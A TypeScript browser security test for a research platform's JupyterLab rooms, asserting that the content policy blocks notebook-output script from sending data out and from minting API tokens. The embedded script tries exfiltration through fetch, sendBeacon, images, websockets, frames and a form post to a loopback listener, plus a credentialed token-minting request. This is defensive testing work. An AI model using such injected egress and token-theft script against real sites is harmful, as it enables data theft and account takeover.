/**
 * Browser egress from a room, in a real Chromium against a real room (JupyterLab on the local
 * driver, through the platform's proxy at the room's own origin). A notebook cell's output — script
 * the researcher wrote — tries every way out it has: `fetch`, `sendBeacon`, an image, a websocket,
 * a frame and a form post to a listener the test opened on loopback, and the platform's own API
 * (`/api/me` for the CSRF token, minting a token). The listener sees nothing, the platform's API is
 * reached by none of it, each attempt is a CSP violation Chromium reports, the platform's session
 * cookie never reaches the room host, and a used or expired hand-off code is refused.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type RoomView, createRoomsModule } from '../../control-plane/src/rooms/index.ts';
import { ARTIFACTS, launchBrowser } from '../e2e/browser.ts';
import { runFirstCell } from '../e2e/jupyter.ts';
import { roomsUnavailable, TEST_ROOM_OPTIONS, withRooms, type RoomsPlatform } from '../proxy/support.ts';
import { startTestPlatform } from '../support/platform.ts';

declare const document: any;
declare const fetch: (url: string, init: unknown) => Promise<{ status: number }>;

const skip = roomsUnavailable();

describe.skipIf(skip !== undefined)(`browser egress from a room${skip ? ` (skipped: ${skip})` : ''}`, () => {
  let p: RoomsPlatform;
  let room: RoomView;
  let browser: Browser;
  let context: BrowserContext;
  let listener: Server;
  const heard: string[] = [];
  /** Every request the browser sent to the room's host, with the cookies it carried. */
  const toRoom: { url: string; cookie: string }[] = [];
  const handoffs: string[] = [];

  beforeAll(async () => {
    listener = createServer((req: IncomingMessage, res) => {
      heard.push(`${req.method} ${req.url}`);
      res.end('ok');
    });
    listener.on('upgrade', (req, socket) => {
      heard.push(`UPGRADE ${req.url}`);
      socket.destroy();
    });
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    // The clock starts now: browsers drop cookies whose expiry lies in their past.
    p = await withRooms(
      await startTestPlatform({}, { now: new Date().toISOString(), modules: [createRoomsModule({ ...TEST_ROOM_OPTIONS, program: 'jupyterlab' })] }),
    );
    room = await p.startRoom('researcher');
    browser = await launchBrowser('security-egress');
    context = await browser.newContext({ viewport: { width: 1366, height: 800 } });
    context.setDefaultTimeout(30_000);
    // Logged in on the platform's page, as the UI does.
    const home = await context.newPage();
    await home.goto(`${p.url}/healthz`);
    const login = await home.evaluate(
      async () =>
        (
          await fetch('/api/auth/login', {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: JSON.stringify({ username: 'researcher', password: 'demo' }),
          })
        ).status,
    );
    expect(login).toBe(200);
    await home.close();
    const roomHost = new URL(p.rooms.hosts.origin(room.id)).host;
    context.on('request', (r) => {
      if (new URL(r.url()).host !== roomHost) return;
      // Only a request still in flight when afterAll closes the context has headers that can no
      // longer be read; it came after every assertion (left unhandled, it failed the whole run).
      r.allHeaders().then(
        (h) => toRoom.push({ url: r.url(), cookie: h.cookie ?? '' }),
        () => undefined,
      );
    });
    context.on('response', (r) => {
      const location = r.headers().location;
      if (r.status() === 303 && location?.includes('/_tre/handoff')) handoffs.push(location);
    });
  }, 240_000);
  afterAll(async () => {
    await context?.close();
    await browser?.close();
    if (room) await p.call('POST', `/api/rooms/${room.id}/stop`, { as: 'operator' });
    await p?.rooms.reconciler.runOnce();
    await p?.stop();
    listener?.close();
  }, 60_000);

  const auditsSince = async (seq: number) =>
    p.deps.store.query<{ action: string; actor: string }>('SELECT action, actor FROM audit_log WHERE seq > $1 ORDER BY seq', [seq]);

  it("the platform hands the owner off to the room's own origin; the room cookie is host-only, HttpOnly and Strict", async () => {
    const page = await context.newPage();
    await page.goto(`${p.url}/rooms/${room.id}/lab`);
    await page.locator('.jp-LabShell').waitFor({ timeout: 90_000 });
    expect(new URL(page.url()).origin).toBe(p.rooms.hosts.origin(room.id));
    const cookies = (await context.cookies()).map((c) => ({ name: c.name, domain: c.domain, httpOnly: c.httpOnly, sameSite: c.sameSite }));
    expect(cookies).toContainEqual({ name: 'tre_room', domain: new URL(p.rooms.hosts.origin(room.id)).hostname, httpOnly: true, sameSite: 'Strict' });
    expect(cookies).toContainEqual({ name: 'tre_session', domain: '127.0.0.1', httpOnly: true, sameSite: 'Strict' });
    expect(handoffs).toHaveLength(1);
    await page.close();
  }, 150_000);

  it("script in a notebook output reaches neither a listener on loopback nor the platform's API", async () => {
    const [last] = await p.deps.store.query<{ seq: number }>('SELECT max(seq) AS seq FROM audit_log');
    const out = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    const api = p.url;
    const lab = await context.newPage();
    const violations: string[] = [];
    lab.on('console', (m) => {
      if (m.type() === 'error' && /Content Security Policy/.test(m.text())) violations.push(m.text());
    });
    await lab.goto(`${p.url}/rooms/${room.id}/lab`);
    await lab.locator('.jp-LabShell').waitFor({ timeout: 90_000 });
    const script = `
const seen = document.getElementById('egress');
document.addEventListener('securitypolicyviolation', (e) => { seen.dataset.v = (seen.dataset.v || '') + e.effectiveDirective + ' ' + e.blockedURI + '\\n'; });
const note = (k, v) => { seen.dataset[k] = String(v); };
fetch('${out}/fetch', { mode: 'no-cors' }).then(() => note('fetch', 'sent'), () => note('fetch', 'blocked'));
try { note('beacon', navigator.sendBeacon('${out}/beacon', 'x')); } catch (e) { note('beacon', 'blocked'); }
const img = new Image(); img.onerror = () => note('img', 'blocked'); img.onload = () => note('img', 'loaded'); img.src = '${out}/img';
try { const ws = new WebSocket('${out.replace('http', 'ws')}/ws'); ws.onerror = () => note('ws', 'blocked'); } catch (e) { note('ws', 'blocked'); }
const frame = document.createElement('iframe'); frame.src = '${out}/frame'; document.body.appendChild(frame);
fetch('${api}/api/me', { credentials: 'include' }).then((r) => note('me', r.status), () => note('me', 'blocked'));
fetch('${api}/api/me/tokens', { method: 'POST', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{"name":"x","days":365}' })
  .then((r) => note('mint', r.status), () => note('mint', 'blocked'));
fetch('/api/me', { credentials: 'include' }).then((r) => note('sameOriginMe', r.status), () => note('sameOriginMe', 'blocked'));
const form = document.createElement('form'); form.method = 'post'; form.action = '${out}/form'; form.target = '_self';
const input = document.createElement('input'); input.name = 'data'; input.value = 'secret'; form.appendChild(input); document.body.appendChild(form);
setTimeout(() => { try { form.submit(); note('form', 'submitted'); } catch (e) { note('form', 'blocked'); } }, 500);
setTimeout(() => note('done', 1), 3000);`;
    const code = [
      'from IPython.display import HTML, display',
      `display(HTML('<div id="egress">egress test</div><script>' + ${JSON.stringify(script)} + '</script>'))`,
    ].join('\n');
    await runFirstCell(lab, code, {
      roomPath: `/rooms/${room.id}/`,
      roomLog: join(p.dataDir, 'rooms-driver', 'rooms', `${room.id}.log`),
      screenshot: join(ARTIFACTS, 'security-egress', 'no-output.png'),
    });
    await lab.waitForFunction(() => document.getElementById('egress')?.dataset.done === '1', null, { timeout: 30_000 });
    const seen = await lab.evaluate(() => ({ ...document.getElementById('egress').dataset }));
    await lab.screenshot({ path: join(ARTIFACTS, 'security-egress', 'notebook.png') });
    expect({ fetch: seen.fetch, img: seen.img, ws: seen.ws, me: seen.me, mint: seen.mint, sameOriginMe: seen.sameOriginMe }).toEqual({
      fetch: 'blocked',
      img: 'blocked',
      ws: 'blocked',
      me: 'blocked',
      mint: 'blocked',
      sameOriginMe: '404',
    });
    // Each attempt is a violation of the room policy, reported by Chromium with what it blocked
    // (`sendBeacon` says it queued the beacon; the policy blocks it all the same).
    const blocked = String(seen.v ?? '')
      .split('\n')
      .filter(Boolean)
      .sort();
    const ws = out.replace('http', 'ws');
    expect(blocked).toEqual(
      expect.arrayContaining([
        `connect-src ${api}/api/me`,
        `connect-src ${api}/api/me/tokens`,
        `connect-src ${out}/beacon`,
        `connect-src ${out}/fetch`,
        `connect-src ${ws}/ws`,
        `form-action ${out}/form`,
        `frame-src ${out}`,
        `img-src ${out}/img`,
      ]),
    );
    // Give anything that got out time to arrive; nothing may have.
    await new Promise((r) => setTimeout(r, 1000));
    expect(heard).toEqual([]);
    const platformCalls = (await auditsSince(last!.seq)).filter((a) => a.action === 'me.read' || a.action === 'token.create');
    expect(platformCalls).toEqual([]);
    expect(toRoom.length).toBeGreaterThan(10);
    expect(toRoom.filter((r) => r.cookie.includes('tre_session'))).toEqual([]);
    await lab.close();
  }, 300_000);

  it("a used hand-off code and an expired one are refused on the room's host", async () => {
    const page = await context.newPage();
    const used = await page.goto(handoffs[0]!);
    expect({ status: used?.status(), reason: (await used?.json())?.reason }).toEqual({ status: 403, reason: 'handoff_refused' });
    const issued = await p.call('POST', `/api/rooms/${room.id}/handoff`, { as: 'researcher', body: {} });
    expect(issued.status).toBe(201);
    p.clock.advance(61_000);
    const expired = await page.goto(issued.body.url as string);
    expect({ status: expired?.status(), reason: (await expired?.json())?.reason }).toEqual({ status: 403, reason: 'handoff_refused' });
    const refused = await p.deps.store.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM audit_log WHERE action = 'room.proxy.refused' AND reason = 'handoff_refused' AND object = $1`,
      [`room:${room.id}`],
    );
    expect(refused[0]!.n).toBe(2);
    await page.close();
  });
});
